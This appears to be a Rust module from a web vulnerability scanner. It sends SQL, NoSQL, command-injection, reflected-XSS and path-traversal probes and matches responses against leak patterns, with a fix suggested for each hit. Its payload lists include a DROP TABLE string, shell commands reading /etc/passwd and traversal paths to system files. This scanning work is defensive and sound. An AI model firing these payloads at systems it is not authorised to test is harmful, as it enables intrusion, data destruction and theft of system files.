//! Injection probes: payloads that should never reach an interpreter.

use super::{Attempts, SESSION_ISSUED};
use crate::client::{ProbeClient, ProbeRequest};
use crate::vuln::{ProbeOutcome, ProbeTargets};
use readyprobe_common::Result;
use regex::Regex;
use serde_json::json;
use std::sync::LazyLock;

/// Database error messages leaked in a response body.
static SQL_ERROR: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)(you have an error in your sql syntax|syntax error at or near|",
        r"unclosed quotation mark|quoted string not properly terminated|",
        r"ORA-\d{5}|SQLSTATE\[|SQLITE_ERROR|sqlite3\.OperationalError|",
        r"pg_query\(\)|mysql_fetch|PG::SyntaxError|ER_PARSE_ERROR)"
    ))
    .unwrap()
});

/// Document-store errors leaked in a response body.
static NOSQL_ERROR: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(MongoError|MongoServerError|CastError: Cast to|BSONTypeError|unknown operator: \$)")
        .unwrap()
});

/// Shell output that only appears when a payload was executed.
static COMMAND_OUTPUT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(uid=\d+\([\w-]+\) gid=\d+|root:x:0:0:|Linux \S+ \d+\.\d+\.\d+)").unwrap()
});

/// Contents of well-known system files.
static SYSTEM_FILE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(root:x:0:0:|daemon:x:1:1:|\[fonts\]|\[extensions\])").unwrap());

const SQL_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "1' AND 1=CONVERT(int,(SELECT @@version))--",
    "\" OR \"\"=\"",
    "1; DROP TABLE users--",
];

const COMMAND_PAYLOADS: &[&str] = &["; id", "| id", "$(id)", "`cat /etc/passwd`", "&& uname -a"];

const TRAVERSAL_PAYLOADS: &[&str] = &[
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//....//etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
];

/// Marker echoed by the reflected script payload.
pub const XSS_MARKER: &str = "readyprobe-xss-7f3a";

fn xss_payload() -> String {
    format!("<script>alert('{}')</script>", XSS_MARKER)
}

pub async fn sql_injection(client: &dyn ProbeClient, targets: &ProbeTargets) -> Result<ProbeOutcome> {
    let mut attempts = Attempts::default();

    for payload in SQL_PAYLOADS {
        let search = ProbeRequest::get(&targets.search_path).with_query(&targets.search_param, *payload);
        let login = ProbeRequest::post(&targets.login_path)
            .with_json(&json!({ "username": payload, "password": payload }));

        for request in [search, login] {
            let Some(response) = attempts.send(client, &request).await else {
                continue;
            };
            if let Some(found) = SQL_ERROR.find(&response.body) {
                return Ok(ProbeOutcome::vulnerable(
                    format!("database error disclosed for payload {:?} on {}", payload, request.path),
                    found.as_str(),
                    "Use parameterized queries and never echo database errors to clients",
                ));
            }
            if request.path == targets.login_path && SESSION_ISSUED.is_match(&response.body) {
                return Ok(ProbeOutcome::vulnerable(
                    format!("login accepted SQL payload {:?}", payload),
                    &response.body,
                    "Use parameterized queries for credential lookups",
                ));
            }
        }
    }

    Ok(attempts.conclude("no database error fingerprint observed"))
}

pub async fn nosql_injection(client: &dyn ProbeClient, targets: &ProbeTargets) -> Result<ProbeOutcome> {
    let mut attempts = Attempts::default();
    let bodies = [
        json!({ "username": { "$ne": null }, "password": { "$ne": null } }),
        json!({ "username": { "$gt": "" }, "password": { "$gt": "" } }),
        json!({ "username": "admin", "password": { "$regex": ".*" } }),
    ];

    for body in &bodies {
        let request = ProbeRequest::post(&targets.login_path).with_json(body);
        let Some(response) = attempts.send(client, &request).await else {
            continue;
        };
        if response.is_success() && SESSION_ISSUED.is_match(&response.body) {
            return Ok(ProbeOutcome::vulnerable(
                "login accepted operator objects in place of credentials",
                format!("{} -> {}", body, response.body),
                "Reject non-string credential fields and sanitize query operators",
            ));
        }
        if let Some(found) = NOSQL_ERROR.find(&response.body) {
            return Ok(ProbeOutcome::vulnerable(
                "document store error disclosed for operator payload",
                found.as_str(),
                "Validate input types before building document queries",
            ));
        }
    }

    Ok(attempts.conclude("operator payloads rejected"))
}

pub async fn command_injection(client: &dyn ProbeClient, targets: &ProbeTargets) -> Result<ProbeOutcome> {
    let mut attempts = Attempts::default();

    for payload in COMMAND_PAYLOADS {
        let request = ProbeRequest::get(&targets.search_path).with_query(&targets.search_param, *payload);
        let Some(response) = attempts.send(client, &request).await else {
            continue;
        };
        if let Some(found) = COMMAND_OUTPUT.find(&response.body) {
            return Ok(ProbeOutcome::vulnerable(
                format!("shell output returned for payload {:?}", payload),
                found.as_str(),
                "Never pass request input to a shell; use argument vectors and allow-lists",
            ));
        }
    }

    Ok(attempts.conclude("no shell output observed"))
}

pub async fn reflected_xss(client: &dyn ProbeClient, targets: &ProbeTargets) -> Result<ProbeOutcome> {
    let mut attempts = Attempts::default();
    let payload = xss_payload();

    let request = ProbeRequest::get(&targets.search_path).with_query(&targets.search_param, &payload);
    if let Some(response) = attempts.send(client, &request).await {
        if let Some(at) = response.body.find(&payload) {
            let end = (at + payload.len() + 64).min(response.body.len());
            let snippet = response.body.get(at..end).unwrap_or(payload.as_str());
            return Ok(ProbeOutcome::vulnerable(
                "script payload reflected without encoding",
                snippet,
                "HTML-encode reflected input and set a Content-Security-Policy",
            ));
        }
    }

    Ok(attempts.conclude("payload not reflected verbatim"))
}

pub async fn path_traversal(client: &dyn ProbeClient, targets: &ProbeTargets) -> Result<ProbeOutcome> {
    let mut attempts = Attempts::default();

    for payload in TRAVERSAL_PAYLOADS {
        let request = ProbeRequest::get(&targets.file_path).with_query(&targets.file_param, *payload);
        let Some(response) = attempts.send(client, &request).await else {
            continue;
        };
        if let Some(found) = SYSTEM_FILE.find(&response.body) {
            return Ok(ProbeOutcome::vulnerable(
                format!("system file served for {:?}", payload),
                found.as_str(),
                "Resolve requested paths against a fixed root and reject traversal sequences",
            ));
        }
    }

    Ok(attempts.conclude("traversal payloads did not reach the filesystem"))
}
